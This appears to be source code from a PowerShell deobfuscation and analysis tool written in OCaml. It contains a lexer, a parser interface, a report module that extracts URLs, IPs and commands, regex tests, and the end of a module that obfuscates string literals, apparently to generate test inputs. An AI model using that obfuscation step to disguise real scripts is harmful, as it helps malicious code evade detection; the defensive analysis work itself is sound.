  | t -> invalid_arg ("L2.string_expr: not an L2 technique: " ^ Technique.name t)

(* Rewrite eligible string literals of a whole script. *)
let apply rng technique src =
  match Pslex.Lexer.tokenize src with
  | Error _ -> src
  | Ok toks ->
      let eligible t =
        t.T.kind = T.String_single
        && String.length t.T.content >= 4
        && (not (String.contains t.T.content '\n'))
        && not (String.contains t.T.content '\'')
      in
      let edits =
        List.filter_map
          (fun t ->
            if eligible t && Rng.chance rng 0.8 then
              Some (Patch.edit t.T.extent (string_expr rng technique t.T.content))
            else None)
          toks
      in
      Patch.apply src edits
