test/test_encoding.ml: Alcotest Array Char Encoding Gen List Printf QCheck QCheck_alcotest String
