open Pscommon

type error = { message : string; position : int }

exception Lex_error of error

let fail pos message = raise (Lex_error { message; position = pos })

let keywords =
  [
    "begin"; "break"; "catch"; "class"; "continue"; "data"; "do";
    "dynamicparam"; "else"; "elseif"; "end"; "exit"; "filter"; "finally";
    "for"; "foreach"; "from"; "function"; "hidden"; "if"; "in"; "param";
    "process"; "return"; "static"; "switch"; "throw"; "trap"; "try"; "until";
    "using"; "while"; "workflow";
  ]

let keyword_set =
  List.fold_left (fun acc k -> Strcase.Set.add k acc) Strcase.Set.empty keywords

let is_keyword w = Strcase.Set.mem w keyword_set

let keyword_canonical w =
  if is_keyword w then Some (Strcase.lower w) else None

let dash_operators =
  [
    "f"; "not"; "bnot"; "and"; "or"; "xor"; "band"; "bor"; "bxor"; "eq";
    "ne"; "gt"; "ge"; "lt"; "le"; "like"; "notlike"; "match"; "notmatch";
    "replace"; "split"; "join"; "contains"; "notcontains"; "in"; "notin";
    "is"; "isnot"; "as"; "shl"; "shr";
    (* case-sensitive / explicit-insensitive variants *)
    "ceq"; "cne"; "cgt"; "cge"; "clt"; "cle"; "clike"; "cnotlike"; "cmatch";
    "cnotmatch"; "creplace"; "csplit"; "ccontains"; "cnotcontains"; "cin";
    "cnotin"; "ieq"; "ine"; "igt"; "ige"; "ilt"; "ile"; "ilike"; "inotlike";
    "imatch"; "inotmatch"; "ireplace"; "isplit"; "icontains"; "inotcontains";
    "iin"; "inotin";
  ]

let dash_operator_set =
  List.fold_left (fun acc k -> Strcase.Set.add k acc) Strcase.Set.empty
    dash_operators

(* Lexing context: what a bareword or '-word' means right now. *)
type ctx =
  | Cmd_start  (* start of a statement / pipeline element *)
  | Cmd_args  (* inside a command invocation *)
  | Expr  (* expression *)
  | Hash  (* inside @{ }, expecting a key *)

type state = {
  src : string;
  len : int;
  mutable pos : int;
  mutable ctx : ctx;
  mutable after_value : bool;
      (* true immediately after a value-like token with no space since *)
  mutable prev_kind : Token.kind option;
  mutable stack : (ctx * string) list;  (* saved ctx, opener text *)
  mutable acc : Token.t list;
}

let cur st = if st.pos < st.len then Some st.src.[st.pos] else None
let peek_at st k = if st.pos + k < st.len then Some st.src.[st.pos + k] else None

let emit st kind content stop =
  let extent = Extent.make ~start:st.pos ~stop in
  let text = Extent.text st.src extent in
  st.acc <- { Token.kind; content; text; extent } :: st.acc;
  st.pos <- stop;
  st.prev_kind <- Some kind

let is_ident_char c =
  match c with 'a' .. 'z' | 'A' .. 'Z' | '0' .. '9' | '_' -> true | _ -> false

let is_digit c = match c with '0' .. '9' -> true | _ -> false

let is_space c = c = ' ' || c = '\t'

(* characters that always terminate a bareword *)
let ends_bareword c =
  match c with
  | ' ' | '\t' | '\n' | '\r' | '(' | ')' | '{' | '}' | ';' | ',' | '|' | '&'
  | '\'' | '"' | '$' ->
      true
  | _ -> false

(* ---------- strings ---------- *)

let backtick_escape c =
  match c with
  | 'n' -> '\n'
  | 't' -> '\t'
  | 'r' -> '\r'
  | '0' -> '\000'
  | 'a' -> '\007'
  | 'b' -> '\b'
  | 'f' -> '\012'
  | 'v' -> '\011'
  | c -> c

let lex_single_string st =
  let start = st.pos in
  let buf = Buffer.create 16 in
  let rec loop i =
    if i >= st.len then fail start "unterminated single-quoted string"
    else
      match st.src.[i] with
      | '\'' when i + 1 < st.len && st.src.[i + 1] = '\'' ->
          Buffer.add_char buf '\'';
          loop (i + 2)
      | '\'' -> i + 1
      | c ->
          Buffer.add_char buf c;
          loop (i + 1)
  in
  let stop = loop (st.pos + 1) in
  emit st Token.String_single (Buffer.contents buf) stop

let lex_double_string st =
  let start = st.pos in
  let buf = Buffer.create 16 in
  let rec loop i =
    if i >= st.len then fail start "unterminated double-quoted string"
    else
      match st.src.[i] with
      | '"' when i + 1 < st.len && st.src.[i + 1] = '"' ->
          Buffer.add_char buf '"';
          loop (i + 2)
      | '"' -> i + 1
      | '`' when i + 1 < st.len ->
          Buffer.add_char buf (backtick_escape st.src.[i + 1]);
          loop (i + 2)
      | c ->
          Buffer.add_char buf c;
          loop (i + 1)
  in
  let stop = loop (st.pos + 1) in
  emit st Token.String_double (Buffer.contents buf) stop

let find_here_terminator st ~quote ~from =
  (* terminator: newline, optional spaces?, quote, '@' — PowerShell requires
     the terminator at the start of a line. *)
  let rec scan i =
    if i + 1 >= st.len then None
    else if
      st.src.[i] = '\n' && i + 2 <= st.len - 1 && st.src.[i + 1] = quote
      && st.src.[i + 2] = '@'
    then Some i
    else scan (i + 1)
  in
  scan from

let lex_here_string st ~quote =
  let start = st.pos in
  (* st.pos at '@', quote char follows *)
  let body_start =
    match String.index_from_opt st.src st.pos '\n' with
    | Some nl -> nl + 1
    | None -> fail start "malformed here-string header"
  in
  match find_here_terminator st ~quote ~from:(body_start - 1) with
  | None -> fail start "unterminated here-string"
  | Some nl ->
      let raw = String.sub st.src body_start (max 0 (nl - body_start)) in
      (* strip one trailing \r for CRLF sources *)
      let raw =
        if String.length raw > 0 && raw.[String.length raw - 1] = '\r' then
          String.sub raw 0 (String.length raw - 1)
        else raw
      in
      let kind =
        if quote = '\'' then Token.String_single_here else Token.String_double_here
      in
      emit st kind raw (nl + 3)

(* ---------- numbers ---------- *)

let number_end st i =
  (* Returns Some (stop, canonical) if src[i..] starts a number ending at a
     delimiter. *)
  let n = st.len in
  let hex = i + 1 < n && st.src.[i] = '0' && (st.src.[i + 1] = 'x' || st.src.[i + 1] = 'X') in
  let j = ref (if hex then i + 2 else i) in
  let digits_seen = ref false in
  if hex then begin
    while
      !j < n
      && (match st.src.[!j] with
         | '0' .. '9' | 'a' .. 'f' | 'A' .. 'F' -> true
         | _ -> false)
    do
      digits_seen := true;
      incr j
    done
  end
  else begin
    while !j < n && is_digit st.src.[!j] do
      digits_seen := true;
      incr j
    done;
    if !j < n && st.src.[!j] = '.' && !j + 1 < n && is_digit st.src.[!j + 1] then begin
      incr j;
      while !j < n && is_digit st.src.[!j] do
        digits_seen := true;
        incr j
      done
    end;
    if !digits_seen && !j < n && (st.src.[!j] = 'e' || st.src.[!j] = 'E') then begin
      let k = if !j + 1 < n && (st.src.[!j + 1] = '+' || st.src.[!j + 1] = '-') then !j + 2 else !j + 1 in
      let k' = ref k in
      while !k' < n && is_digit st.src.[!k'] do
        incr k'
      done;
      if !k' > k then j := !k'
    end
  end;
  if not !digits_seen then None
  else begin
    (* magnitude suffix *)
    let j2 =
      if !j + 1 < n then
        let two = Strcase.lower (String.sub st.src !j (min 2 (n - !j))) in
        if List.mem two [ "kb"; "mb"; "gb"; "tb"; "pb" ] then !j + 2 else !j
      else !j
    in
    let j2 =
      if j2 = !j && j2 < n && (st.src.[j2] = 'l' || st.src.[j2] = 'L' || st.src.[j2] = 'd' || st.src.[j2] = 'D') then j2 + 1
      else j2
    in
    let delimited =
      j2 >= n
      ||
      match st.src.[j2] with
      | ' ' | '\t' | '\n' | '\r' | ')' | ']' | '}' | ';' | ',' | '|' | '+'
      | '-' | '*' | '/' | '%' | '.' | '=' | '(' | '[' | '!' | '>' | '<' | '&'
      | '"' | '\'' | '`' | '{' | '#' | '@' ->
          true
      | _ -> false
    in
    if delimited then Some (j2, String.sub st.src i (j2 - i)) else None
  end

(* ---------- barewords ---------- *)

(* Read a bareword starting at st.pos, resolving backtick escapes.  Returns
   (content, stop). *)
let read_bareword st ~stop_at_bracket =
  let buf = Buffer.create 16 in
  let rec loop i =
    if i >= st.len then i
    else
      let c = st.src.[i] in
      if ends_bareword c then i
      else if c = '`' && i + 1 < st.len then begin
        (* Outside double quotes the backtick escapes the next character
           literally; `n / `t sequences only apply inside double quotes. *)
        let n = st.src.[i + 1] in
        if n = '\n' || n = '\r' then i
        else begin
          Buffer.add_char buf n;
          loop (i + 2)
        end
      end
      else if (c = '[' || c = ']' || c = '=') && stop_at_bracket then i
      else if c = '#' && Buffer.length buf = 0 then i
      else begin
        Buffer.add_char buf c;
        loop (i + 1)
      end
  in
  let stop = loop st.pos in
  (Buffer.contents buf, stop)

(* ---------- type literals ---------- *)

let lex_type st =
  (* st.pos at '['.  Scan for a balanced type name; None if it doesn't look
     like one. *)
  let rec scan i depth started =
    if i >= st.len then None
    else
      match st.src.[i] with
      | '[' -> scan (i + 1) (depth + 1) started
      | ']' -> if depth = 1 then Some (i + 1) else scan (i + 1) (depth - 1) started
      | 'a' .. 'z' | 'A' .. 'Z' | '0' .. '9' | '.' | '_' | ',' | ' ' | '+' ->
          scan (i + 1) depth true
      | _ -> None
  in
  match peek_at st 1 with
  | Some ('a' .. 'z' | 'A' .. 'Z' | '_' | '[') -> (
      match scan (st.pos + 1) 1 false with
      | Some stop when stop - st.pos > 2 ->
          let inner = String.sub st.src (st.pos + 1) (stop - st.pos - 2) in
          Some (inner, stop)
      | _ -> None)
  | _ -> None

(* ---------- variables ---------- *)

let lex_variable st =
  (* st.pos at '$' (or after '@' for splatting, handled by caller) *)
  let start = st.pos in
  match peek_at st 1 with
  | Some '{' ->
      let rec scan i =
        if i >= st.len then fail start "unterminated ${...} variable"
        else if st.src.[i] = '}' then i
        else scan (i + 1)
      in
      let close = scan (st.pos + 2) in
      let name = String.sub st.src (st.pos + 2) (close - st.pos - 2) in
      emit st Token.Variable name (close + 1)
  | Some ('$' | '?' | '^') ->
      emit st Token.Variable (String.make 1 st.src.[st.pos + 1]) (st.pos + 2)
  | Some c when is_ident_char c ->
      let rec scan i =
        if i < st.len && is_ident_char st.src.[i] then scan (i + 1)
        else if
          (* drive-qualified: $env:name *)
          i + 1 < st.len && st.src.[i] = ':' && is_ident_char st.src.[i + 1]
        then scan (i + 1)
        else i
      in
      let stop = scan (st.pos + 1) in
      emit st Token.Variable (String.sub st.src (st.pos + 1) (stop - st.pos - 1)) stop
  | _ -> fail start "bare '$' is not a variable"

(* ---------- main loop ---------- *)

let multi_char_operators =
  (* longest first *)
  [
    "2>&1"; "1>&2"; ">>"; "2>"; "1>"; "+="; "-="; "*="; "/="; "%="; "++";
    "--"; ".."; "::"; "&&"; "||"; "!"; "="; ">"; "+"; "-"; "*"; "/"; "%";
    ","; "."; "&"; "|";
  ]

let pop_group st =
  match st.stack with
  | [] -> (Cmd_start, "")
  | top :: rest ->
      st.stack <- rest;
      top

let after_group_ctx saved = match saved with Cmd_start -> Expr | c -> c

let rec skip_ws st =
  match cur st with
  | Some c when is_space c ->
      st.pos <- st.pos + 1;
      st.after_value <- false;
      skip_ws st
  | _ -> ()

let ctx_after_separator st =
  match st.stack with (_, "@{") :: _ -> Hash | _ -> Cmd_start

let lex_dash_word st =
  (* st.pos at '-', letter follows; returns (word, stop) *)
  let rec scan i = if i < st.len && is_ident_char st.src.[i] then scan (i + 1) else i in
  let stop = scan (st.pos + 1) in
  (String.sub st.src (st.pos + 1) (stop - st.pos - 1), stop)

let rec step st =
  skip_ws st;
  match cur st with
  | None -> false
  | Some c ->
      (match c with
      | '`' when peek_at st 1 = Some '\n' ->
          emit st Token.Line_continuation "" (st.pos + 2);
          st.after_value <- false
      | '`' when peek_at st 1 = Some '\r' ->
          let stop = if peek_at st 2 = Some '\n' then st.pos + 3 else st.pos + 2 in
          emit st Token.Line_continuation "" stop;
          st.after_value <- false
      | '\n' ->
          emit st Token.New_line "\n" (st.pos + 1);
          st.ctx <- ctx_after_separator st;
          st.after_value <- false
      | '\r' ->
          let stop = if peek_at st 1 = Some '\n' then st.pos + 2 else st.pos + 1 in
          emit st Token.New_line "\n" stop;
          st.ctx <- ctx_after_separator st;
          st.after_value <- false
      | ';' ->
          emit st Token.Statement_separator ";" (st.pos + 1);
          st.ctx <- ctx_after_separator st;
          st.after_value <- false
      | '#' ->
          let stop =
            match String.index_from_opt st.src st.pos '\n' with
            | Some nl -> nl
            | None -> st.len
          in
          emit st Token.Comment (String.sub st.src st.pos (stop - st.pos)) stop;
          st.after_value <- false
      | '<' when peek_at st 1 = Some '#' ->
          let rec find i =
            if i + 1 >= st.len then fail st.pos "unterminated block comment"
            else if st.src.[i] = '#' && st.src.[i + 1] = '>' then i + 2
            else find (i + 1)
          in
          let stop = find (st.pos + 2) in
          emit st Token.Comment (String.sub st.src st.pos (stop - st.pos)) stop;
          st.after_value <- false
      | '|' ->
          let stop = if peek_at st 1 = Some '|' then st.pos + 2 else st.pos + 1 in
          emit st Token.Operator (String.sub st.src st.pos (stop - st.pos)) stop;
          st.ctx <- Cmd_start;
          st.after_value <- false
      | '(' ->
          st.stack <- (st.ctx, "(") :: st.stack;
          emit st Token.Group_start "(" (st.pos + 1);
          st.ctx <- Cmd_start;
          st.after_value <- false
      | '{' ->
          st.stack <- (st.ctx, "{") :: st.stack;
          emit st Token.Group_start "{" (st.pos + 1);
          st.ctx <- Cmd_start;
          st.after_value <- false
      | ')' ->
          let saved, _opener = pop_group st in
          emit st Token.Group_end ")" (st.pos + 1);
          st.ctx <- after_group_ctx saved;
          st.after_value <- true
      | '}' ->
          let _saved, _opener = pop_group st in
          emit st Token.Group_end "}" (st.pos + 1);
          (* a '}' usually closes a statement block: 'else', 'catch', … may
             follow; member access after a script-block literal still works
             because '.' checks after_value before ctx *)
          st.ctx <- Cmd_start;
          st.after_value <- true
      | ']' ->
          let saved, _opener = pop_group st in
          emit st Token.Index_end "]" (st.pos + 1);
          st.ctx <- after_group_ctx saved;
          st.after_value <- true
      | '[' ->
          let try_type =
            (not st.after_value) || st.prev_kind = Some Token.Type_name
          in
          (match (try_type, lex_type st) with
          | true, Some (inner, stop) ->
              emit st Token.Type_name inner stop;
              if st.ctx = Cmd_start then st.ctx <- Expr;
              st.after_value <- true
          | _ ->
              st.stack <- (st.ctx, "[") :: st.stack;
              emit st Token.Index_start "[" (st.pos + 1);
              st.ctx <- Expr;
              st.after_value <- false)
      | '\'' ->
          lex_single_string st;
          if st.ctx = Cmd_start then st.ctx <- Expr;
          st.after_value <- true
      | '"' ->
          lex_double_string st;
          if st.ctx = Cmd_start then st.ctx <- Expr;
          st.after_value <- true
      | '@' -> (
          match peek_at st 1 with
          | Some '(' ->
              st.stack <- (st.ctx, "@(") :: st.stack;
              emit st Token.Group_start "@(" (st.pos + 2);
              st.ctx <- Cmd_start;
              st.after_value <- false
          | Some '{' ->
              st.stack <- (st.ctx, "@{") :: st.stack;
              emit st Token.Group_start "@{" (st.pos + 2);
              st.ctx <- Hash;
              st.after_value <- false
          | Some '\'' ->
              lex_here_string st ~quote:'\'';
              if st.ctx = Cmd_start then st.ctx <- Expr;
              st.after_value <- true
          | Some '"' ->
              lex_here_string st ~quote:'"';
              if st.ctx = Cmd_start then st.ctx <- Expr;
              st.after_value <- true
          | Some c2 when is_ident_char c2 ->
              let rec scan i = if i < st.len && is_ident_char st.src.[i] then scan (i + 1) else i in
              let stop = scan (st.pos + 1) in
              emit st Token.Splat_variable (String.sub st.src (st.pos + 1) (stop - st.pos - 1)) stop;
              st.after_value <- true
          | _ -> fail st.pos "unexpected '@'")
      | '$' -> (
          match peek_at st 1 with
          | Some '(' ->
              st.stack <- (st.ctx, "$(") :: st.stack;
              emit st Token.Group_start "$(" (st.pos + 2);
              st.ctx <- Cmd_start;
              st.after_value <- false
          | _ ->
              lex_variable st;
              if st.ctx = Cmd_start then st.ctx <- Expr;
              st.after_value <- true)
      | '-' -> (
          match peek_at st 1 with
          | Some c2 when is_ident_char c2 && not (is_digit c2) ->
              let word, stop = lex_dash_word st in
              let is_op = Strcase.Set.mem word dash_operator_set in
              if st.ctx = Cmd_args && not (is_op && false) then begin
                (* in argument position a -word is always a parameter *)
                let stop =
                  if stop < st.len && st.src.[stop] = ':' then stop + 1 else stop
                in
                emit st Token.Command_parameter
                  (String.sub st.src st.pos (stop - st.pos))
                  stop;
                st.after_value <- false
              end
              else if is_op then begin
                emit st Token.Operator (Strcase.lower ("-" ^ word)) stop;
                if st.ctx = Cmd_start then st.ctx <- Expr;
                st.after_value <- false
              end
              else begin
                (* '-word' in expression position that is not an operator:
                   lex as argument-like bareword (PowerShell errors later) *)
                emit st Token.Command_argument ("-" ^ word) stop;
                st.after_value <- true
              end
          | _ ->
              if st.ctx = Cmd_args then begin
                match number_end st (st.pos + 1) with
                | Some (stop, text) when peek_at st 1 <> None ->
                    emit st Token.Number ("-" ^ text) stop;
                    st.after_value <- true
                | _ ->
                    let op_stop =
                      if peek_at st 1 = Some '-' then st.pos + 2
                      else if peek_at st 1 = Some '=' then st.pos + 2
                      else st.pos + 1
                    in
                    emit st Token.Operator (String.sub st.src st.pos (op_stop - st.pos)) op_stop;
                    st.after_value <- false
              end
              else begin
                let op_stop =
                  if peek_at st 1 = Some '-' then st.pos + 2
                  else if peek_at st 1 = Some '=' then st.pos + 2
                  else st.pos + 1
                in
                let op_text = String.sub st.src st.pos (op_stop - st.pos) in
                emit st Token.Operator op_text op_stop;
                if op_text = "-=" then st.ctx <- Cmd_start
                else if st.ctx = Cmd_start then st.ctx <- Expr;
                st.after_value <- false
              end)
      | '.' -> (
          if peek_at st 1 = Some '.' then begin
            (* range operator *)
            emit st Token.Operator ".." (st.pos + 2);
            if st.ctx = Cmd_start then st.ctx <- Expr;
            st.after_value <- false
          end
          else if st.after_value then begin
            (* member access *)
            emit st Token.Operator "." (st.pos + 1);
            st.after_value <- false;
            skip_member st
          end
          else
            match peek_at st 1 with
            | Some c2 when is_digit c2 && st.ctx <> Cmd_args -> (
                match number_end st st.pos with
                | Some (stop, text) ->
                    emit st Token.Number text stop;
                    if st.ctx = Cmd_start then st.ctx <- Expr;
                    st.after_value <- true
                | None -> fail st.pos "malformed number")
            | Some (' ' | '\t' | '$' | '\'' | '"' | '(') when st.ctx = Cmd_start ->
                (* dot-source / call operator *)
                emit st Token.Operator "." (st.pos + 1);
                st.ctx <- Cmd_args;
                st.after_value <- false
            | _ when st.ctx = Cmd_start || st.ctx = Cmd_args ->
                lex_bareword_token st
            | _ ->
                emit st Token.Operator "." (st.pos + 1);
                st.after_value <- false)
      | '&' ->
          let stop = if peek_at st 1 = Some '&' then st.pos + 2 else st.pos + 1 in
          emit st Token.Operator (String.sub st.src st.pos (stop - st.pos)) stop;
          if st.ctx = Cmd_start then st.ctx <- Cmd_args;
          st.after_value <- false
      | '%' when st.ctx = Cmd_start ->
          (* '%' at command position is the ForEach-Object alias *)
          emit st Token.Command "%" (st.pos + 1);
          st.ctx <- Cmd_args;
          st.after_value <- false
      | '=' | '+' | '*' | '/' | '%' | '!' | ',' | '>' | '<' | ':' ->
          let matched =
            List.find_opt
              (fun op ->
                let l = String.length op in
                st.pos + l <= st.len && String.sub st.src st.pos l = op)
              multi_char_operators
          in
          let op = match matched with Some op -> op | None -> String.make 1 c in
          emit st Token.Operator op (st.pos + String.length op);
          if op = "::" then begin
            st.after_value <- false;
            skip_member st
          end
          else begin
            (if List.mem op [ "="; "+="; "-="; "*="; "/="; "%=" ] then
               (* the right-hand side of an assignment is a full statement:
                  a bareword there is a command *)
               st.ctx <- Cmd_start
             else if st.ctx = Cmd_start then st.ctx <- Expr);
            st.after_value <- false
          end
      | '0' .. '9' when st.ctx <> Cmd_args -> (
          match number_end st st.pos with
          | Some (stop, text) ->
              emit st Token.Number text stop;
              if st.ctx = Cmd_start then st.ctx <- Expr;
              st.after_value <- true
          | None -> lex_bareword_token st)
      | _ -> lex_bareword_token st);
      true

and skip_member st =
  (* after '.' or '::': PowerShell allows horizontal whitespace before the
     member name ($x. Length is legal) *)
  while (match cur st with Some c when is_space c -> true | _ -> false) do
    st.pos <- st.pos + 1
  done;
  match cur st with
  | Some c when is_ident_char c ->
      let rec scan i = if i < st.len && is_ident_char st.src.[i] then scan (i + 1) else i in
      let stop = scan st.pos in
      emit st Token.Member (String.sub st.src st.pos (stop - st.pos)) stop;
      st.after_value <- true
  | _ -> ()

and lex_bareword_token st =
  match st.ctx with
  | Cmd_start ->
      let content, stop = read_bareword st ~stop_at_bracket:false in
      if stop = st.pos then fail st.pos (Printf.sprintf "unexpected character %C" st.src.[st.pos]);
      if is_keyword content then begin
        emit st Token.Keyword (Strcase.lower content) stop;
        st.ctx <- Cmd_start;
        st.after_value <- false
      end
      else begin
        emit st Token.Command content stop;
        st.ctx <- Cmd_args;
        st.after_value <- false
      end
  | Cmd_args -> (
      let redirection =
        List.find_opt
          (fun op ->
            let l = String.length op in
            st.pos + l <= st.len && String.sub st.src st.pos l = op)
          [ "2>&1"; "1>&2"; "2>>"; "2>"; "1>>"; "1>" ]
      in
      match redirection with
      | Some op ->
          emit st Token.Operator op (st.pos + String.length op);
          st.after_value <- false
      | None ->
      match number_end st st.pos with
      | Some (stop, text) ->
          emit st Token.Number text stop;
          st.after_value <- true
      | None ->
          let content, stop = read_bareword st ~stop_at_bracket:false in
          if stop = st.pos then fail st.pos (Printf.sprintf "unexpected character %C" st.src.[st.pos]);
          emit st Token.Command_argument content stop;
          st.after_value <- true)
  | Expr ->
      let content, stop = read_bareword st ~stop_at_bracket:true in
      if stop = st.pos then fail st.pos (Printf.sprintf "unexpected character %C" st.src.[st.pos]);
      if Strcase.equal content "in" then begin
        emit st Token.Keyword "in" stop;
        st.ctx <- Cmd_start;
        st.after_value <- false
      end
      else begin
        emit st Token.Command_argument content stop;
        st.after_value <- true
      end
  | Hash ->
      let content, stop = read_bareword st ~stop_at_bracket:true in
      if stop = st.pos then fail st.pos (Printf.sprintf "unexpected character %C" st.src.[st.pos]);
      emit st Token.Member content stop;
      st.after_value <- true

let tokenize src =
  let st =
    {
      src;
      len = String.length src;
      pos = 0;
      ctx = Cmd_start;
      after_value = false;
      prev_kind = None;
      stack = [];
      acc = [];
    }
  in
  match
    let continue = ref true in
    while !continue do
      continue := step st
    done
  with
  | () -> Ok (List.rev st.acc)
  | exception Lex_error e -> Error e

let tokenize_exn src =
  match tokenize src with
  | Ok toks -> toks
  | Error e -> failwith (Printf.sprintf "lex error at %d: %s" e.position e.message)
