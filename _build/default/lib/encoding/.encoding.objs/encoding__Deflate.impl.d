lib/encoding/deflate.ml: Array Bitstream Char Huffman Inflate Lazy String
