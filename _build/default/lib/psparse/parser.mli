(** Recursive-descent parser for the PowerShell subset.

    Produces {!Psast.Ast.t} trees whose extents index the {e original}
    source, so every node's text can be replaced in place.  Operator
    precedence follows about_Operator_Precedence; newline handling follows
    PowerShell (a newline terminates a statement except right after an
    operator, pipe, comma or opening group). *)

type error = { message : string; position : int }

val parse : string -> (Psast.Ast.t, error) result
(** Parse a whole script into a [Script_block] node. *)

val parse_exn : string -> Psast.Ast.t
(** @raise Failure on lexical or syntax errors. *)

val parse_fragment : src:string -> offset:int -> string -> (Psast.Ast.t, error) result
(** Parse [fragment], shifting every extent by [offset] so they index
    [src].  Used for the bodies of expandable strings. *)

val is_valid_syntax : string -> bool
(** True when the script both lexes and parses.  The deobfuscator checks
    this after every phase and reverts a phase that broke the script
    (paper §IV-A). *)
