lib/pscommon/patch.ml: Buffer Extent List String
