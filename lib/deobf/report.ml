(** Structured analysis reports.

    One call bundles what an analyst pipeline consumes: the deobfuscated
    script, recovery statistics, obfuscation scores before/after with the
    detected techniques, and the key indicators of the result.  [to_json]
    renders it without external dependencies. *)

type t = {
  output : string;
  changed : bool;
  score_before : int;
  score_after : int;
  techniques_before : string list;
  techniques_after : string list;
  pieces_recovered : int;
  variables_substituted : int;
  layers_unwrapped : int;
  pieces_attempted : int;
  pieces_blocked : int;
  cache_hits : int;
  iterations : int;
  wall_ms : float;
  phase_ms : (string * float) list;
  metrics : Pscommon.Telemetry.Metrics.snapshot;
  regions_total : int;
  regions_recovered : int;
  urls : string list;
  ips : string list;
  ps1_files : string list;
  powershell_commands : string list;
  verify : Verify.outcome option;
      (** semantic-equivalence verdict, when the gate ran *)
}

let analyze ?options ?(verify = false) src =
  let started = Pscommon.Guard.now () in
  (* guarded pipeline with no deadline: same phases and timings as batch,
     but a single file is allowed to run to completion *)
  let run ~suppress =
    Engine.run_guarded ?options ~timeout_s:infinity ~max_output_bytes:max_int
      ~suppress src
  in
  let guarded = run ~suppress:[] in
  let guarded, verify_outcome =
    if verify then
      let g, o = Verify.gate ~rerun:run ~src guarded in
      (g, Some o)
    else (guarded, None)
  in
  let result = guarded.Engine.result in
  let before = Score.detect src in
  let after = Score.detect result.Engine.output in
  let info = Keyinfo.extract result.Engine.output in
  {
    output = result.Engine.output;
    changed = result.Engine.changed;
    score_before = Score.score_of_detection before;
    score_after = Score.score_of_detection after;
    techniques_before = Score.technique_names before;
    techniques_after = Score.technique_names after;
    pieces_recovered = result.Engine.stats.Recover.pieces_recovered;
    variables_substituted = result.Engine.stats.Recover.variables_substituted;
    layers_unwrapped = result.Engine.stats.Recover.layers_unwrapped;
    pieces_attempted = result.Engine.stats.Recover.pieces_attempted;
    pieces_blocked = result.Engine.stats.Recover.pieces_blocked;
    cache_hits = result.Engine.stats.Recover.cache_hits;
    iterations = result.Engine.iterations;
    wall_ms = (Pscommon.Guard.now () -. started) *. 1000.0;
    phase_ms = guarded.Engine.timings;
    metrics = Pscommon.Telemetry.Metrics.snapshot ();
    regions_total = guarded.Engine.regions_total;
    regions_recovered = guarded.Engine.regions_recovered;
    urls = info.Keyinfo.urls;
    ips = info.Keyinfo.ips;
    ps1_files = info.Keyinfo.ps1_files;
    powershell_commands = info.Keyinfo.powershell_commands;
    verify = verify_outcome;
  }

let json_escape s =
  let buf = Buffer.create (String.length s + 8) in
  String.iter
    (fun c ->
      match c with
      | '"' -> Buffer.add_string buf "\\\""
      | '\\' -> Buffer.add_string buf "\\\\"
      | '\n' -> Buffer.add_string buf "\\n"
      | '\r' -> Buffer.add_string buf "\\r"
      | '\t' -> Buffer.add_string buf "\\t"
      | c when Char.code c < 0x20 ->
          Buffer.add_string buf (Printf.sprintf "\\u%04x" (Char.code c))
      | c -> Buffer.add_char buf c)
    s;
  Buffer.contents buf

let json_string s = "\"" ^ json_escape s ^ "\""

let json_list items = "[" ^ String.concat ", " (List.map json_string items) ^ "]"

let to_json t =
  String.concat "\n"
    [
      "{";
      Printf.sprintf "  \"changed\": %b," t.changed;
      Printf.sprintf "  \"score_before\": %d," t.score_before;
      Printf.sprintf "  \"score_after\": %d," t.score_after;
      Printf.sprintf "  \"techniques_before\": %s," (json_list t.techniques_before);
      Printf.sprintf "  \"techniques_after\": %s," (json_list t.techniques_after);
      Printf.sprintf "  \"pieces_recovered\": %d," t.pieces_recovered;
      Printf.sprintf "  \"variables_substituted\": %d," t.variables_substituted;
      Printf.sprintf "  \"layers_unwrapped\": %d," t.layers_unwrapped;
      Printf.sprintf "  \"pieces_attempted\": %d," t.pieces_attempted;
      Printf.sprintf "  \"pieces_blocked\": %d," t.pieces_blocked;
      Printf.sprintf "  \"cache_hits\": %d," t.cache_hits;
      Printf.sprintf "  \"iterations\": %d," t.iterations;
      Printf.sprintf "  \"wall_ms\": %.1f," t.wall_ms;
      Printf.sprintf "  \"phase_ms\": {%s},"
        (String.concat ", "
           (List.map
              (fun (p, ms) -> Printf.sprintf "%s: %.1f" (json_string p) ms)
              t.phase_ms));
      Printf.sprintf "  \"metrics\": %s,"
        (Pscommon.Telemetry.Metrics.snapshot_to_json t.metrics);
      Printf.sprintf "  \"regions_total\": %d," t.regions_total;
      Printf.sprintf "  \"regions_recovered\": %d," t.regions_recovered;
      Printf.sprintf "  \"urls\": %s," (json_list t.urls);
      Printf.sprintf "  \"ips\": %s," (json_list t.ips);
      Printf.sprintf "  \"ps1_files\": %s," (json_list t.ps1_files);
      Printf.sprintf "  \"powershell_commands\": %s," (json_list t.powershell_commands);
      Printf.sprintf "  \"verify\": %s,"
        (match t.verify with
        | None -> "null"
        | Some v ->
            Printf.sprintf
              "{\"verdict\": %s, \"detail\": %s, \"rolled_back\": %d, \
               \"sandbox_runs\": %d, \"verify_ms\": %.1f}"
              (json_string (Verify.verdict_name v.Verify.verdict))
              (match Verify.verdict_detail v.Verify.verdict with
              | None -> "null"
              | Some d -> json_string d)
              (List.length v.Verify.suppressed)
              v.Verify.sandbox_runs v.Verify.verify_ms);
      Printf.sprintf "  \"output\": %s" (json_string t.output);
      "}";
    ]
