(* Tests for the regex engine used by baselines and -match/-replace/-split. *)

open Regexen

let check_s = Alcotest.(check string)
let check_b = Alcotest.(check bool)
let check_i = Alcotest.(check int)

let matches pat subject = Regex.is_match (Regex.compile pat) subject

let first_match pat subject =
  match Regex.find (Regex.compile pat) subject with
  | Some m -> Regex.matched_text subject m
  | None -> Alcotest.fail ("no match for " ^ pat)

let test_literals () =
  check_b "literal" true (matches "abc" "xxabcxx");
  check_b "no match" false (matches "abc" "ab c");
  check_b "caseless default" true (matches "ABC" "xabcx");
  check_b "case sensitive opt" false
    (Regex.is_match (Regex.compile ~case_insensitive:false "ABC") "abc")

let test_classes () =
  check_s "digit class" "42" (first_match {|\d+|} "a42b");
  check_s "word class" "foo_1" (first_match {|\w+|} " foo_1 ");
  check_s "negated" "xyz" (first_match "[^0-9]+" "12xyz3");
  check_s "range" "cab" (first_match "[a-c]+" "zcabz");
  check_b "class with escape" true (matches {|[\d,]+|} "1,2");
  check_b "literal dash last" true (matches "[a-]+" "a-a")

let test_quantifiers () =
  check_s "star greedy" "aaa" (first_match "a*" "aaab");
